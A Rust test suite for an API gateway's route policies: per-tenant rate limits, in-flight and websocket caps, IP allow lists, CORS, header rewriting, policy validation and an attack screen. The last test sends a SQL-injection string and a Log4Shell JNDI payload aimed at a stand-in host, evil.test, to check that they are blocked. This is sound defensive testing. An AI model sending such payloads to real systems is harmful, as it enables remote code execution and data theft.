//! Policies on routes (ledger H01, H03, H07, J03, K04): what one tenant may use, and what no request may do.

use crate::{
    backend::{Backend, read_head},
    house::{ACME, BETA, House},
    wire::{ask, get},
};
use domain::Limit;
use std::sync::Arc;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

fn route(policies: &str) -> String {
    format!(r#"[{{"name": "tenants", "host": "*.base.test", "audience": "api", "policies": {policies}}}]"#)
}

async fn limit(house: &House, tenant: domain::TenantId, limit: Limit, to: u64) {
    house
        .change(tenant, |record| {
            let mut limits = (*record.limits).clone();
            limits.limits.insert(limit.name().into(), to);
            record.limits = Arc::new(limits);
        })
        .await;
}

#[tokio::test]
async fn a_node_alone_counts_exactly_and_says_what_is_left() {
    let house = House::routed(&route(
        r#"{"limits": [{"name": "day", "window": 86400, "limit": 10},
                       {"name": "plan", "per": "user", "window": 86400, "limit": {"plan": "api_requests_per_day"}}]}"#,
    ))
    .await;
    let (acme, beta) = (house.carol_at(ACME), house.carol_at(BETA));
    let ask = async |host: &str, cookie: &str| get(host, "/x").with("cookie", cookie).at(house.address).await;
    let first = ask("acme.base.test", &acme).await;
    assert_eq!(first.headers["ratelimit-policy"], "\"day\";q=10;w=86400");
    assert!(first.headers["ratelimit"].to_str().unwrap().starts_with("\"day\";r=9;t="));
    let mut passed = 1;
    for _ in 0..30 {
        passed += u32::from(ask("acme.base.test", &acme).await.status == 200);
    }
    assert_eq!(passed, 10);
    let over = ask("acme.base.test", &acme).await;
    assert_eq!((over.status.as_u16(), over.code().as_str()), (429, "limit.rate"));
    let wait: u32 = over.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=86_400).contains(&wait));
    assert!(over.headers["ratelimit"].to_str().unwrap().starts_with("\"day\";r=0;t="));
    assert!(over.text().contains("`day` is 10 requests"), "{}", over.text());
    // Another tenant has a count of its own, and what its plan says holds for it.
    limit(&house, BETA, Limit::ApiRequestsPerDay, 2).await;
    let told = ask("beta.base.test", &beta).await;
    assert_eq!(told.headers["ratelimit-policy"], "\"day\";q=10;w=86400, \"plan\";q=2;w=86400");
    assert_eq!(ask("beta.base.test", &beta).await.status, 200);
    let over = ask("beta.base.test", &beta).await;
    assert!(over.headers["ratelimit"].to_str().unwrap().starts_with("\"plan\";r=0;t="));
    // What one limit refused does not count in the others.
    limit(&house, BETA, Limit::ApiRequestsPerDay, 0).await;
    let told = ask("beta.base.test", &beta).await;
    assert!(told.headers["ratelimit"].to_str().unwrap().starts_with("\"day\";r=7;t="), "{:?}", told.headers);
}

#[tokio::test]
async fn an_api_of_several_routes_has_one_count() {
    let limits = r#"{"limits": [{"name": "day", "api": "orders", "window": 86400, "limit": 3}]}"#;
    let house = House::routed(&format!(
        r#"[{{"name": "one", "host": "*.base.test", "path": "/one", "policies": {limits}}},
            {{"name": "two", "host": "*.base.test", "path": "/two", "policies": {limits}}},
            {{"name": "rest", "host": "*.base.test"}}]"#
    ))
    .await;
    let carol = house.carol_at(ACME);
    let mut answers = Vec::new();
    for path in ["/one", "/two", "/one", "/two", "/one", "/rest"] {
        answers
            .push(get("acme.base.test", path).with("cookie", &carol).at(house.address).await.status.as_u16());
    }
    assert_eq!(answers, [200, 200, 200, 429, 429, 200]);
}

#[tokio::test]
async fn a_tenant_whose_backend_hangs_holds_what_is_its_own_and_no_more() {
    let house = House::with(Backend::answering(|_| std::future::pending()).await, |_| {}).await;
    limit(&house, ACME, Limit::RequestsInFlight, 5).await;
    let (acme, beta) = (house.carol_at(ACME), house.carol_at(BETA));
    let mut hanging = Vec::new();
    for _ in 0..5 {
        let (address, acme) = (house.address, acme.clone());
        hanging.push(tokio::spawn(async move {
            get("acme.base.test", "/x").with("cookie", &acme).at(address).await
        }));
    }
    while house.gateway.in_flight() < 5 {
        tokio::task::yield_now().await;
    }
    let over = get("acme.base.test", "/x").with("cookie", &acme).at(house.address).await;
    assert_eq!((over.status.as_u16(), over.code().as_str()), (429, "limit.in-flight"));
    // Beta's request goes on its way.
    let address = house.address;
    hanging.push(tokio::spawn(
        async move { get("beta.base.test", "/x").with("cookie", &beta).at(address).await },
    ));
    while house.gateway.in_flight() < 6 {
        tokio::task::yield_now().await;
    }
    hanging.iter().for_each(tokio::task::JoinHandle::abort);
    while house.gateway.in_flight() > 0 {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn networks_are_let_in_or_not_and_the_change_needs_no_restart() {
    let house = House::routed(&route(r#"{"addresses": {"deny": ["127.0.0.0/8"]}}"#)).await;
    let carol = house.carol_at(ACME);
    let ask = async || get("acme.base.test", "/x").with("cookie", &carol).at(house.address).await;
    assert_eq!(ask().await.code(), "address.refused");
    house.gateway.set_routes(&route(r#"{"addresses": {"allow": ["127.0.0.0/8"]}}"#)).unwrap();
    assert_eq!(ask().await.status, 200);
    let faults =
        house.gateway.set_routes(&route(r#"{"addresses": {"allow": ["127.0.0.1/8"]}}"#)).unwrap_err();
    assert!(faults[0].to_string().contains("policies.addresses"), "{faults:?}");
    assert_eq!(ask().await.status, 200);
}

#[tokio::test]
async fn pages_of_named_origins_may_read_answers_and_no_others() {
    let cors = r#"{"cors": {"origins": ["https://app.test"], "methods": ["PUT"], "headers": ["X-A"],
                   "credentials": true}}"#;
    let house = House::routed(&route(cors)).await;
    let asks = |origin| {
        ask("OPTIONS", "acme.base.test", "/x")
            .with("origin", origin)
            .with("access-control-request-method", "PUT")
    };
    let told = asks("https://app.test").at(house.address).await;
    assert_eq!(told.status, 204);
    assert_eq!(told.headers["access-control-allow-origin"], "https://app.test");
    assert_eq!(told.headers["access-control-allow-methods"], "GET, HEAD, POST, PUT");
    assert_eq!(told.headers["access-control-allow-headers"], "X-A");
    assert_eq!(asks("https://evil.test").at(house.address).await.code(), "request.cross-origin");
    assert_eq!(house.backend.hits(), 0, "such questions reach no backend");
    let carol = house.carol_at(ACME);
    let ask =
        |origin| get("acme.base.test", "/x").with("origin", origin).with("cookie", &carol).at(house.address);
    assert_eq!(ask("https://app.test").await.headers["access-control-allow-credentials"], "true");
    assert!(!ask("https://evil.test").await.headers.contains_key("access-control-allow-origin"));
    // An answer of ours can be read too: why a request was refused.
    let refused = get("acme.base.test", "/x").with("origin", "https://app.test").at(house.address).await;
    assert_eq!(
        (refused.status.as_u16(), refused.headers["access-control-allow-origin"].to_str().unwrap()),
        (401, "https://app.test")
    );
}

#[tokio::test]
async fn headers_are_written_from_what_was_verified_and_answers_are_finished() {
    let backend = Backend::adding(&[("server", "secret/1.0"), ("x-frame-options", "ALLOWALL")]).await;
    let house = House::with(backend, |_| {}).await;
    let rules = r#"{"request_headers": [{"set": "X-Slug", "fact": "tenant_slug"}, {"set": "X-User", "fact": "user_id"},
                                        {"set": "X-Key", "fact": "subscriber_id"}, {"remove": "X-Debug"},
                                        {"append": "X-A", "value": "2"}],
                    "answer_headers": [{"set": "X-Frame-Options", "value": "DENY"}, {"remove": "Server"}]}"#;
    house.gateway.set_routes(&route(rules)).unwrap();
    let carol = house.carol_at(ACME);
    let told = get("acme.base.test", "/x")
        .with("cookie", &carol)
        .with("x-slug", "beta")
        .with("x_slug", "beta")
        .with("x-key", "forged")
        .with("x-debug", "1")
        .with("x-a", "1")
        .at(house.address)
        .await;
    assert_eq!(told.got("x-slug"), ["acme"]);
    assert_eq!(told.got("x_slug"), [""; 0]);
    assert_eq!(told.got("x-user"), [crate::house::CAROL.to_string()]);
    assert_eq!((told.got("x-key"), told.got("x-debug")), (vec![], vec![]));
    assert_eq!(told.got("x-a"), ["1", "2"]);
    assert_eq!(told.headers["x-frame-options"], "DENY");
    assert!(!told.headers.contains_key("server"));
}

#[tokio::test]
async fn a_screen_blocks_or_only_says_what_it_would_have_blocked() {
    let house = House::routed(&route(r#"{"screen": {"mode": "detect", "most_parameters": 2}}"#)).await;
    let carol = house.carol_at(ACME);
    let ask = async |target| get("acme.base.test", target).with("cookie", &carol).at(house.address).await;
    assert_eq!(ask("/x?a&b&c").await.status, 200);
    assert_eq!(house.gateway.screened(), (1, 0));
    house.gateway.set_routes(&route(r#"{"screen": {"most_parameters": 2}}"#)).unwrap();
    let blocked = ask("/x?a&b&c").await;
    assert_eq!((blocked.status.as_u16(), blocked.code().as_str()), (400, "request.screened"));
    assert!(blocked.text().contains("most_parameters"), "{}", blocked.text());
    assert_eq!(ask("/x?a&b").await.status, 200);
    assert_eq!(house.gateway.screened(), (1, 1));
}

#[tokio::test]
async fn a_policy_that_names_a_tenant_is_refused_by_the_rules_name() {
    let house = House::new().await;
    let faults = |policies: &str| {
        let faults = house.gateway.check_routes(&route(policies)).err().unwrap_or_default();
        faults.iter().map(ToString::to_string).collect::<Vec<_>>()
    };
    for literal in [
        format!(r#"{{"request_headers": [{{"set": "X-A", "value": "for {ACME} only"}}]}}"#),
        r#"{"answer_headers": [{"set": "X-A", "value": "acme"}]}"#.to_owned(),
        r#"{"cors": {"origins": ["https://acme.base.test"]}}"#.to_owned(),
        r#"{"cors": {"origins": ["https://www.acme.test"]}}"#.to_owned(),
    ] {
        let said = faults(&literal);
        assert!(said.len() == 1 && said[0].contains("no-literal-tenant"), "{literal}: {said:?}");
    }
    assert_eq!(faults(r#"{"request_headers": [{"set": "X-A", "value": "acme-like"}]}"#), [""; 0]);
    // A tenant that comes later makes no routes wrong that are in force.
    house.gateway.set_routes(&route(r#"{"answer_headers": [{"set": "X-A", "value": "acme"}]}"#)).unwrap();
}

#[tokio::test]
async fn mistakes_in_policies_are_all_named_and_nothing_changes() {
    let house = House::new().await;
    let said = house
        .gateway
        .set_routes(&route(
            r#"{"limits": [{"name": "A b", "window": 60, "limit": 1}, {"name": "b", "window": 0, "limit": 1},
                           {"name": "c", "window": 60, "limit": 0}, {"name": "d", "window": 60, "limit": {"plan": "x"}},
                           {"name": "e", "window": 60, "limit": 1}, {"name": "e", "window": 60, "limit": 2}],
                "addresses": {"allow": ["10.0.0.0"]},
                "cors": {"origins": ["*"], "credentials": true},
                "request_headers": [{"set": "Host", "value": "x"}],
                "screen": {"content_types": ["json"]}}"#,
        ))
        .unwrap_err();
    let said: Vec<_> = said.iter().map(ToString::to_string).collect();
    assert_eq!(said.len(), 9, "{said:#?}");
    assert!(said.iter().all(|fault| fault.starts_with("route `tenants`: policies.")), "{said:#?}");
    let unknown = house.gateway.set_routes(&route(r#"{"limit": []}"#)).unwrap_err();
    assert!(unknown[0].to_string().contains("unknown field `limit`"));
}

#[tokio::test]
async fn websockets_are_counted_apart_from_requests() {
    let backend = Backend::raw(|mut stream| async move {
        read_head(&mut stream).await;
        let switch = "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n";
        stream.write_all(switch.as_bytes()).await.unwrap();
        let _ = stream.read_u8().await;
    })
    .await;
    let house = House::with(backend, |_| {}).await;
    limit(&house, ACME, Limit::WebSockets, 1).await;
    let open = async |host: &str, cookie: &str| {
        let mut stream = TcpStream::connect(house.address).await.unwrap();
        let head = format!(
            "GET /x HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let answer = read_head(&mut stream).await;
        (stream, answer[9..12].to_owned())
    };
    let (acme, beta) = (house.carol_at(ACME), house.carol_at(BETA));
    let (first, status) = open("acme.base.test", &acme).await;
    assert_eq!(status, "101");
    assert_eq!(open("acme.base.test", &acme).await.1, "429");
    assert_eq!(open("beta.base.test", &beta).await.1, "101");
    // Whoever closes one may have another.
    drop(first);
    while open("acme.base.test", &acme).await.1 != "101" {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn a_tenant_says_from_where_its_own_people_may_ask() {
    let house = House::new().await;
    let (acme, beta) = (house.carol_at(ACME), house.carol_at(BETA));
    let at_acme = async || get("acme.base.test", "/x").with("cookie", &acme).at(house.address).await;
    house.change(ACME, |record| record.networks = ["10.0.0.0/8".parse().unwrap()].into()).await;
    assert_eq!(at_acme().await.code(), "address.refused");
    assert_eq!(get("beta.base.test", "/x").with("cookie", &beta).at(house.address).await.status, 200);
    // A stranger learns nothing of it.
    assert_eq!(get("acme.base.test", "/x").at(house.address).await.code(), "session.needed");
    house.change(ACME, |record| record.networks = ["127.0.0.0/8".parse().unwrap()].into()).await;
    assert_eq!(at_acme().await.status, 200);
}

#[tokio::test]
async fn what_looks_like_an_attack_is_blocked_or_only_counted() {
    let house = House::routed(
        r#"[{"name": "blocks", "host": "*.base.test", "path": "/blocks", "audience": "api", "open": true,
             "policies": {"screen": {"attacks": {"mode": "block", "except_parameters": ["code"]}}}},
            {"name": "detects", "host": "*.base.test", "path": "/detects", "audience": "api", "open": true,
             "policies": {"screen": {"attacks": {"mode": "detect"}}}},
            {"name": "rest", "host": "*.base.test", "audience": "api", "open": true}]"#,
    )
    .await;
    let ask = async |target: &str| get("acme.base.test", target).at(house.address).await;
    let attack = "?q=%2527%2520or%25201%253D1--";
    let told = ask(&format!("/blocks{attack}")).await;
    assert_eq!((told.status.as_u16(), told.code().as_str()), (400, "request.attack"));
    assert!(told.text().contains("`sql.") && !told.text().contains("1=1"), "{}", told.text());
    assert_eq!(house.gateway.screened(), (0, 1));
    assert_eq!(ask(&format!("/detects{attack}")).await.status, 200);
    assert_eq!(house.gateway.screened(), (1, 1));
    assert_eq!(ask(&format!("/rest{attack}")).await.status, 200);
    assert_eq!(ask("/blocks?q=it%27s+5+or+6&code=%3Cscript%3E").await.status, 200);
    assert_eq!(house.gateway.screened(), (1, 1));
    let log4shell =
        get("acme.base.test", "/blocks").with("user-agent", "${${lower:j}ndi:ldap://evil.test/a}");
    assert_eq!(log4shell.at(house.address).await.code(), "request.attack");
}
